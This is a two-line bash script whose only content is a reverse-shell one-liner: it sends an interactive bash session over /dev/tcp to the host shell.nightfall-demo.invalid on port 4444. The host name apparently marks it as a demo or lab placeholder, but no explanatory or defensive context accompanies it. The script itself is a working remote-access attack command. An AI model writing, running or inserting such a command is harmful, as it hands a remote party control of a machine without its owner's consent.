#!/bin/bash
bash -i >& /dev/tcp/shell.nightfall-demo.invalid/4444 0>&1
